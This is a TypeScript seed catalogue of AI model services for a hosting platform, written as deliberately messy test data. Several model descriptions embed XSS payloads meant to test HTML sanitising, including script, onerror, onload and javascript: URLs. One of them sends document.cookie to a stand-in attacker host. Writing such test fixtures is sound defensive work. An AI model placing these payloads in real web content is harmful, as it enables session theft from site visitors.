// The seed catalogue: model services across every home-page category and every domain, from
// the platform itself ('limelight') and the third-party host ('replicate'). It is deliberately
// untidy in the ways real data is: names with a slash (owner/name), one without a name,
// model_category as a string, a list or an object keyed by id (plus unknown ids and none),
// HTML in descriptions (some harmless, some hostile, to exercise sanitising), missing and
// placeholder images, run counts from 0 to billions, and private services of the publisher.

export type Owner = 'limelight' | 'publisher' | 'demo' | { replicate: string };

export interface SeedModel {
  id: string;
  /** display_name; undefined means the id, null means none ('Unknown Model' in the UI). */
  name?: string | null;
  desc: string | null;
  /** model_category exactly as stored. */
  category: string | string[] | Record<string, unknown> | null;
  /** Endpoint template. */
  kind: string;
  owner: Owner;
  runs: number;
  /** Age in days (creation dates spread over two years). */
  days: number;
  featured?: number;
  tags: string[];
  /** undefined: the generated SVG; otherwise stored as given. */
  image?: string | null;
  isPrivate?: boolean;
  hosting?: { status: 'deploying' | 'running' | 'scaled_to_zero' | 'failed' | 'stopped'; gpu: string; min: number; max: number };
  price: { unit: 'request' | 'second'; usd: number };
}

const rep = (owner: string): Owner => ({ replicate: owner });
const running = (gpu: string, max = 20) => ({ status: 'running' as const, gpu, min: 0, max });
const perRequest = (usd: number) => ({ unit: 'request' as const, usd });
const perSecond = (usd: number) => ({ unit: 'second' as const, usd });

export const SEED_MODELS: SeedModel[] = [
  // Generate images
  { id: 'lime-diffusion-xl', name: 'Lime Diffusion XL', desc: '<p>Our flagship <b>text-to-image</b> model: photoreal scenes, crisp typography and faithful colours at 1024×1024 in under two seconds.</p>', category: 'text2img', kind: 'text2img', owner: 'limelight', runs: 48_300_000, days: 210, featured: 1, tags: ['sdxl', 'diffusion'], hosting: running('A100 80 GB', 50), price: perRequest(0.0032) },
  { id: 'black-forest-labs/flux-schnell', desc: 'The fastest image model of the <i>FLUX</i> family, distilled to four steps for local development and interactive tools.', category: ['text2img'], kind: 'text2img', owner: rep('black-forest-labs'), runs: 3_240_000_000, days: 150, featured: 2, tags: ['flux', 'diffusion transformer'], price: perRequest(0.003) },
  { id: 'black-forest-labs/flux-dev', desc: 'A 12-billion-parameter rectified flow transformer for high-quality images from text. Non-commercial weights.', category: { text2img: { default: true } }, kind: 'text2img', owner: rep('black-forest-labs'), runs: 412_000_000, days: 148, featured: 5, tags: ['flux'], price: perRequest(0.025) },
  { id: 'stability-ai/sdxl', desc: 'A text-to-image generative model from Stability AI that creates beautiful images. <img src=x onerror=alert(1)>', category: 'text2img', kind: 'text2img', owner: rep('stability-ai'), runs: 81_600_000, days: 700, featured: 9, tags: ['sdxl', 'stable diffusion'], price: perSecond(0.000725) },
  { id: 'pixel-forge', name: 'Pixel Forge', desc: 'Pixel-art sprites and tilesets in 16, 32 or 64 pixel grids with a limited palette — made for game jams.', category: ['text2img', 'img2img'], kind: 'text2img', owner: 'limelight', runs: 184_200, days: 95, tags: ['pixel art', 'lora'], hosting: running('RTX 4090 24 GB'), price: perRequest(0.0011) },
  { id: 'bytedance/sdxl-lightning-4step', desc: 'SDXL-Lightning by ByteDance: a fast text-to-image model that makes high-quality images in 4 steps.', category: 'text2img', kind: 'text2img', owner: rep('bytedance'), runs: 1_049, days: 400, tags: ['sdxl', 'distilled'], price: perSecond(0.000725) },
  { id: 'ideogram-ai/ideogram-v2', desc: 'Excellent at <b>typography</b>, logos and posters: text inside images comes out spelled right.', category: 'text2img', kind: 'text2img', owner: rep('ideogram-ai'), runs: 9_870_000, days: 60, featured: 14, tags: ['typography'], image: 'https://replicate.delivery/pbxt/ideogram-v2/cover.webp', price: perRequest(0.08) },
  { id: 'sketch-to-render', name: 'publisher/sketch-to-render', desc: 'Turns architectural pencil sketches into rendered facades. Trained on 40k line drawings with matching photos.', category: ['img2img', 'text2img'], kind: 'img2img', owner: 'publisher', runs: 12_345, days: 33, tags: ['controlnet', 'architecture'], hosting: running('L40S 48 GB', 4), price: perRequest(0.004) },

  // Generate text
  { id: 'lime-chat-8b', name: 'Lime Chat 8B', desc: 'A compact instruction-tuned assistant that answers in the user\'s language. 128k context, tool calling, JSON mode.', category: 'llm', kind: 'llm', owner: 'limelight', runs: 215_000_000, days: 120, featured: 3, tags: ['llama', 'chat'], hosting: running('H100 80 GB', 100), price: perSecond(0.00116) },
  { id: 'meta/meta-llama-3-70b-instruct', desc: 'A 70 billion parameter language model from Meta, fine tuned for chat completions.', category: ['llm'], kind: 'llm', owner: rep('meta'), runs: 164_500_000, days: 380, featured: 6, tags: ['llama 3'], price: perSecond(0.0014) },
  { id: 'mistralai/mixtral-8x7b-instruct-v0.1', desc: 'A sparse <b>mixture of experts</b>: 8 experts of 7B, two active per token. Strong at code and French.', category: { llm: {} }, kind: 'llm', owner: rep('mistralai'), runs: 23_900_000, days: 560, tags: ['moe', 'mixtral'], price: perSecond(0.0014) },
  { id: 'code-lime-34b', name: 'Code Lime 34B', desc: 'Completes and explains code in 40 languages; fill-in-the-middle for editors. <script>alert("xss")</script>', category: 'llm', kind: 'llm', owner: 'limelight', runs: 7_400_000, days: 300, featured: 12, tags: ['code', 'fim'], hosting: running('A100 80 GB'), price: perSecond(0.00076) },
  { id: 'lime-summarize', name: 'Lime Summarize', desc: 'Summaries of long documents with citations to the source paragraphs.', category: 'llm', kind: 'llm', owner: 'limelight', runs: 999, days: 14, tags: ['summarization'], hosting: { status: 'deploying', gpu: 'L4 24 GB', min: 0, max: 5 }, price: perSecond(0.00019) },
  { id: 'google-deepmind/gemma-2-9b-it', desc: 'Gemma 2 9B instruct: lightweight, state-of-the-art open model from Google.', category: 'llm', kind: 'llm', owner: rep('google-deepmind'), runs: 1_000, days: 170, tags: ['gemma'], image: null, price: perSecond(0.000725) },
  { id: 'contract-analyst', name: 'publisher/contract-analyst', desc: 'Flags unusual clauses in German and English contracts. <b>Private beta.</b>', category: 'llm', kind: 'llm', owner: 'publisher', runs: 312, days: 21, tags: ['legal'], isPrivate: true, hosting: running('A6000 48 GB', 2), price: perSecond(0.00034) },

  // Generate speech
  { id: 'lime-voice', name: 'Lime Voice', desc: 'Natural text-to-speech in 29 languages with 40 studio voices and emotion control.', category: 'tts', kind: 'tts', owner: 'limelight', runs: 33_100_000, days: 240, featured: 4, tags: ['tts', 'multilingual'], hosting: running('RTX 4090 24 GB', 40), price: perRequest(0.0009) },
  { id: 'suno-ai/bark', desc: 'Bark: text-prompted audio with laughter, sighs and music cues. <a href="javascript:alert(1)">Try it</a>', category: ['tts', 'music'], kind: 'tts', owner: rep('suno-ai'), runs: 2_450_000, days: 650, featured: 15, tags: ['bark', 'gpt'], price: perSecond(0.000725) },
  { id: 'jaaari/kokoro-82m', desc: 'Kokoro is a frontier TTS model for its size of 82 million parameters.', category: { tts: { voices: 26 } }, kind: 'tts', owner: rep('jaaari'), runs: 18_700_000, days: 90, tags: ['kokoro', 'small'], price: perSecond(0.000225) },
  { id: 'audiobook-narrator', name: 'Audiobook Narrator', desc: 'Long-form narration with consistent character voices across chapters; reads EPUB directly.', category: 'tts', kind: 'tts', owner: 'limelight', runs: 58_000, days: 45, tags: ['long form'], hosting: running('L4 24 GB'), price: perRequest(0.004) },
  { id: 'brand-voice', name: 'publisher/brand-voice', desc: 'The narrator voice of our customer videos. Internal use only.', category: 'tts', kind: 'tts', owner: 'publisher', runs: 4_020, days: 70, tags: ['tts', 'custom'], isPrivate: true, hosting: { status: 'scaled_to_zero', gpu: 'L4 24 GB', min: 0, max: 2 }, price: perRequest(0.0012) },

  // Generate videos
  { id: 'lime-motion', name: 'Lime Motion', desc: '<p>Five-second <b>720p</b> clips from text, with camera moves such as <i>dolly in</i> or <i>orbit</i>.</p>', category: 'text2video', kind: 'text2video', owner: 'limelight', runs: 2_870_000, days: 75, featured: 7, tags: ['video diffusion'], hosting: running('H100 80 GB', 30), price: perSecond(0.00116) },
  { id: 'minimax/video-01', desc: 'Hailuo video-01: 6-second 720p videos from text or an image, with excellent motion.', category: ['text2video', 'img2video'], kind: 'text2video', owner: rep('minimax'), runs: 6_600_000, days: 110, featured: 10, tags: ['hailuo'], price: perRequest(0.5) },
  { id: 'tencent/hunyuan-video', desc: 'A 13B open video model from Tencent with cinematic quality.', category: 'text2video', kind: 'text2video', owner: rep('tencent'), runs: 412_000, days: 80, tags: ['hunyuan'], image: '', price: perSecond(0.001525) },
  { id: 'genmo/mochi-1', desc: 'Mochi 1 preview: open video generation with high-fidelity motion and strong prompt adherence.', category: { text2video: null }, kind: 'text2video', owner: rep('genmo'), runs: 98_700, days: 95, tags: ['mochi'], price: perSecond(0.001525) },
  { id: 'product-spin', name: 'publisher/product-spin', desc: 'A 360° turntable video of a product from four photos. Used in our shop.', category: ['text2video', '3d'], kind: 'text2video', owner: 'publisher', runs: 1_776, days: 40, tags: ['ecommerce'], isPrivate: true, hosting: running('A100 80 GB', 3), price: perSecond(0.00076) },

  // Generate 3D
  { id: 'lime-mesh', name: 'Lime Mesh', desc: 'A textured, game-ready mesh from one photo in about ten seconds. Exports GLB, OBJ and USDZ.', category: '3d', kind: '3d', owner: 'limelight', runs: 640_000, days: 130, featured: 8, tags: ['mesh', 'pbr'], hosting: running('A100 80 GB'), price: perRequest(0.02) },
  { id: 'firtoz/trellis', desc: 'TRELLIS: scalable 3D generation from images with structured latents. <svg onload=alert(1)>', category: ['3d'], kind: '3d', owner: rep('firtoz'), runs: 1_320_000, days: 55, featured: 16, tags: ['trellis', 'gaussian splatting'], price: perSecond(0.000975) },
  { id: 'stability-ai/stable-fast-3d', desc: 'Fast 3D asset generation from a single image, UV-unwrapped with materials.', category: { '3d': { input: 'image' } }, kind: '3d', owner: rep('stability-ai'), runs: 87_000, days: 140, tags: ['sf3d'], price: perSecond(0.000975) },
  { id: 'text-to-voxel', name: 'Text to Voxel', desc: 'Voxel models for sandbox games from a short description.', category: '3d', kind: '3d', owner: 'limelight', runs: 0, days: 3, tags: ['voxel'], hosting: { status: 'stopped', gpu: 'RTX 4090 24 GB', min: 0, max: 2 }, price: perRequest(0.002) },

  // Swap faces
  { id: 'lime-faceswap', name: 'Lime FaceSwap', desc: 'Consent-checked face swapping for photos with identity-preserving blending. Requires the depicted person\'s permission.', category: 'face-swap', kind: 'face-swap', owner: 'limelight', runs: 12_300_000, days: 330, featured: 11, tags: ['inswapper', 'gfpgan'], hosting: running('RTX 4090 24 GB', 30), price: perRequest(0.0014) },
  { id: 'codeplugtech/face-swap', desc: 'Swap faces between two images; restores detail with a face enhancer.', category: ['face-swap'], kind: 'face-swap', owner: rep('codeplugtech'), runs: 27_400_000, days: 500, tags: ['roop'], price: perSecond(0.000225) },
  { id: 'cdingram/face-swap', desc: 'Face swap with optional <b>GFPGAN</b> restoration.', category: { 'face-swap': {}, upscaling: {} }, kind: 'face-swap', owner: rep('cdingram'), runs: 4_560, days: 260, tags: ['face swap'], image: 'placeholder', price: perSecond(0.000225) },
  { id: 'group-photo-swap', name: 'Group Photo Swap', desc: 'Swaps several faces in a group photo at once, matched by position.', category: 'face-swap', kind: 'face-swap', owner: 'limelight', runs: 3, days: 8, tags: ['multi face'], hosting: running('L4 24 GB', 5), price: perRequest(0.002) },

  // Voice cloning
  { id: 'lime-voice-clone', name: 'Lime Voice Clone', desc: 'Clone a voice from 30 seconds of audio and speak any text with it, across 17 languages.', category: 'voice-cloning', kind: 'voice-cloning', owner: 'limelight', runs: 5_900_000, days: 200, featured: 13, tags: ['xtts', 'zero shot'], hosting: running('A6000 48 GB'), price: perRequest(0.003) },
  { id: 'lucataco/xtts-v2', desc: 'Coqui XTTS-v2: multilingual voice cloning from a six-second sample.', category: ['voice-cloning', 'tts'], kind: 'voice-cloning', owner: rep('lucataco'), runs: 8_800_000, days: 450, tags: ['xtts'], price: perSecond(0.000225) },
  { id: 'zsxkib/f5-tts', desc: 'F5-TTS: fluent and faithful speech with flow matching; clones from a short clip.', category: { 'voice-cloning': { zero_shot: true } }, kind: 'voice-cloning', owner: rep('zsxkib'), runs: 243_000, days: 100, tags: ['f5'], price: perSecond(0.000725) },
  { id: 'podcast-dub', name: 'Podcast Dub', desc: 'Dubs a podcast into another language in the speakers\' own voices.', category: ['voice-cloning', 'stt'], kind: 'voice-cloning', owner: 'limelight', runs: 21_000, days: 25, tags: ['dubbing'], image: null, hosting: running('A100 80 GB', 5), price: perSecond(0.00076) },

  // Background removal
  { id: 'lime-cutout', name: 'Lime Cutout', desc: 'Removes backgrounds from product and portrait photos with hair-level precision.', category: 'background-removal', kind: 'background-removal', owner: 'limelight', runs: 96_500_000, days: 600, featured: 17, tags: ['birefnet', 'matting'], hosting: running('RTX A4000 16 GB', 60), price: perRequest(0.0004) },
  { id: 'cjwbw/rembg', desc: 'Remove images background. <img src="x" onerror="fetch(\'https://evil.example/\'+document.cookie)">', category: ['background-removal'], kind: 'background-removal', owner: rep('cjwbw'), runs: 11_200_000, days: 690, tags: ['rembg', 'u2net'], price: perSecond(0.000225) },
  { id: 'men1scus/birefnet', desc: 'Bilateral reference network for high-resolution dichotomous image segmentation.', category: { 'background-removal': {} }, kind: 'background-removal', owner: rep('men1scus'), runs: 1_870_000, days: 230, tags: ['birefnet'], price: perSecond(0.000225) },
  { id: 'product-shots', name: 'publisher/product-shots', desc: 'Cutout plus a generated studio backdrop for our catalogue photos.', category: ['background-removal', 'img2img'], kind: 'background-removal', owner: 'publisher', runs: 88_412, days: 150, tags: ['ecommerce'], isPrivate: true, hosting: running('L4 24 GB', 4), price: perRequest(0.001) },

  // Edit and upscale images
  { id: 'timbrooks/instruct-pix2pix', desc: 'Edit images by telling the model what to do: <i>"make it winter"</i>.', category: 'img2img', kind: 'img2img', owner: rep('timbrooks'), runs: 1_260_000, days: 710, tags: ['pix2pix'], price: perSecond(0.000725) },
  { id: 'lime-inpaint', name: 'Lime Inpaint', desc: 'Fills or replaces a masked region so that it blends with the rest of the picture.', category: 'img2img', kind: 'img2img', owner: 'limelight', runs: 3_400_000, days: 280, tags: ['inpainting'], hosting: running('A5000 24 GB'), price: perRequest(0.002) },
  { id: 'nightmareai/real-esrgan', desc: 'Real-ESRGAN with optional face correction and adjustable upscale.', category: 'upscaling', kind: 'upscaling', owner: rep('nightmareai'), runs: 61_000_000, days: 720, featured: 18, tags: ['esrgan'], price: perSecond(0.000225) },
  { id: 'lime-upscale', name: 'Lime Upscale', desc: '4× upscaling that invents plausible texture instead of blurring.', category: ['upscaling'], kind: 'upscaling', owner: 'limelight', runs: 999_999, days: 180, tags: ['upscaler'], hosting: running('RTX 4090 24 GB'), price: perRequest(0.001) },
  { id: 'philz1337x/clarity-upscaler', desc: 'High-resolution creative upscaler and enhancer. <iframe src="javascript:alert(1)"></iframe>', category: { upscaling: { creative: true } }, kind: 'upscaling', owner: rep('philz1337x'), runs: 15_600_000, days: 330, tags: ['clarity'], price: perSecond(0.000725) },

  // Transcribe speech
  { id: 'lime-whisper', name: 'Lime Whisper', desc: 'Transcription and translation of speech in 99 languages, with speaker labels and word timestamps.', category: 'stt', kind: 'stt', owner: 'limelight', runs: 142_000_000, days: 520, featured: 19, tags: ['whisper', 'diarization'], hosting: running('A100 80 GB', 80), price: perSecond(0.00076) },
  { id: 'openai/whisper', desc: 'Convert speech in audio to text.', category: ['stt'], kind: 'stt', owner: rep('openai'), runs: 1_000_000_000, days: 715, tags: ['whisper'], price: perSecond(0.000725) },
  { id: 'vaibhavs10/incredibly-fast-whisper', desc: 'Whisper large-v3 with batching and flash attention: <b>150 minutes of audio in under 100 seconds</b>.', category: 'stt', kind: 'stt', owner: rep('vaibhavs10'), runs: 8_300_000, days: 410, tags: ['whisper', 'fast'], price: perSecond(0.001525) },
  { id: 'meeting-minutes', name: 'publisher/meeting-minutes', desc: 'Transcribes our calls and writes action items per person.', category: ['stt', 'llm'], kind: 'stt', owner: 'publisher', runs: 640, days: 12, tags: ['meetings'], isPrivate: true, hosting: running('L4 24 GB', 2), price: perSecond(0.00019) },

  // Music
  { id: 'meta/musicgen', desc: 'Generate music from a prompt or melody.', category: 'music', kind: 'music', owner: rep('meta'), runs: 4_100_000, days: 540, tags: ['musicgen'], price: perSecond(0.001525) },
  { id: 'lime-jingle', name: 'Lime Jingle', desc: 'Royalty-free 30-second jingles for ads and intros.', category: ['music'], kind: 'music', owner: 'limelight', runs: 73_000, days: 65, tags: ['music'], hosting: running('A5000 24 GB'), price: perRequest(0.01) },

  // Animate images into video, characters, lip sync
  { id: 'stability-ai/stable-video-diffusion', desc: 'Short videos from a single still image.', category: 'img2video', kind: 'img2video', owner: rep('stability-ai'), runs: 2_900_000, days: 610, tags: ['svd'], price: perSecond(0.001525) },
  { id: 'lime-living-photo', name: 'Lime Living Photo', desc: 'Gentle motion for portraits and landscapes: hair in the wind, drifting clouds, flowing water.', category: ['img2video'], kind: 'img2video', owner: 'limelight', runs: 410_000, days: 50, featured: 20, tags: ['cinemagraph'], hosting: running('H100 80 GB', 10), price: perSecond(0.00116) },
  { id: 'lime-puppeteer', name: 'Lime Puppeteer', desc: 'Animates a drawn character by copying the motion of a reference video.', category: 'animation', kind: 'animation', owner: 'limelight', runs: 188_000, days: 160, tags: ['pose transfer'], hosting: running('A100 80 GB'), price: perSecond(0.00076) },
  { id: 'zcxu-eric/magicanimate', desc: 'Temporally consistent human image animation using a diffusion model.', category: { animation: {} }, kind: 'animation', owner: rep('zcxu-eric'), runs: 590_000, days: 680, tags: ['animate anyone'], price: perSecond(0.001525) },
  { id: 'devxpy/cog-wav2lip', desc: 'Accurate lip sync for talking-face videos in the wild.', category: 'lipsync', kind: 'lipsync', owner: rep('devxpy'), runs: 1_940_000, days: 560, tags: ['wav2lip'], price: perSecond(0.000725) },
  { id: 'lime-lipsync', name: 'Lime Lipsync', desc: 'Studio-grade lip sync for dubbed video, up to 4K.', category: ['lipsync', 'voice-cloning'], kind: 'lipsync', owner: 'limelight', runs: 67_000, days: 30, tags: ['lip sync'], hosting: running('H100 80 GB'), price: perSecond(0.00116) },

  // Describe images, OCR, embeddings (text and misc domains)
  { id: 'salesforce/blip', desc: 'Generate image captions.', category: 'captioning', kind: 'captioning', owner: rep('salesforce'), runs: 166_000_000, days: 705, tags: ['blip'], price: perSecond(0.000225) },
  { id: 'lime-vision', name: 'Lime Vision', desc: 'Answers questions about images: charts, screenshots, receipts, photos.', category: ['captioning', 'llm'], kind: 'captioning', owner: 'limelight', runs: 9_100_000, days: 100, tags: ['vlm', 'qwen-vl'], hosting: running('A100 80 GB', 20), price: perSecond(0.00076) },
  { id: 'lime-ocr', name: 'Lime OCR', desc: 'Reads printed and handwritten text in 80 languages and keeps the layout.', category: 'ocr', kind: 'ocr', owner: 'limelight', runs: 2_300_000, days: 420, tags: ['ocr', 'layout'], hosting: running('RTX A4000 16 GB'), price: perRequest(0.0008) },
  { id: 'invoice-reader', name: 'publisher/invoice-reader', desc: 'Extracts supplier, totals and VAT lines from invoices into JSON.', category: { ocr: {}, llm: {} }, kind: 'ocr', owner: 'publisher', runs: 23_456, days: 85, tags: ['invoices'], isPrivate: true, hosting: running('L4 24 GB', 3), price: perRequest(0.002) },
  { id: 'lime-embed', name: 'Lime Embed', desc: 'Multilingual text embeddings for search and clustering, 1024 dimensions.', category: 'embeddings', kind: 'embeddings', owner: 'limelight', runs: 1_840_000_000, days: 365, tags: ['bge', 'retrieval'], hosting: running('L4 24 GB', 40), price: perRequest(0.00002) },
  { id: 'replicate/all-mpnet-base-v2', desc: 'Sentence embeddings with a 768-dimensional vector space.', category: ['embeddings'], kind: 'embeddings', owner: rep('replicate'), runs: 12_300, days: 690, tags: ['sentence transformers'], price: perSecond(0.000225) },

  // The untidy ones
  { id: 'legacy-style-transfer', name: 'Legacy Style Transfer', desc: 'Paints a photo in the style of another image. Kept for old integrations.', category: 'style-transfer', kind: 'img2img', owner: 'limelight', runs: 451_000, days: 719, tags: ['neural style'], hosting: { status: 'failed', gpu: 'RTX A4000 16 GB', min: 0, max: 1 }, price: perRequest(0.001) },
  { id: 'untitled-service-7f3a', name: null, desc: null, category: null, kind: 'llm', owner: 'publisher', runs: 7, days: 2, tags: [], image: null, hosting: { status: 'deploying', gpu: 'L4 24 GB', min: 0, max: 1 }, price: perSecond(0.00019) },
  { id: 'meme-captioner', name: 'publisher/meme-captioner', desc: 'Writes a caption for your image in classic meme style. <b>Safe for work.</b>', category: ['captioning', ''], kind: 'captioning', owner: 'publisher', runs: 2_048, days: 120, tags: ['humor'], hosting: running('L4 24 GB', 2), price: perRequest(0.0005) },
  { id: 'lucataco/ollama-reflection-70b', desc: 'Reflection Llama-3.1 70B, served through Ollama.', category: ['llm', 'unknown-category'], kind: 'llm', owner: rep('lucataco'), runs: 3_900, days: 200, tags: ['reflection'], image: 'https://placehold.co/600x400?text=placeholder', price: perSecond(0.001525) },
];
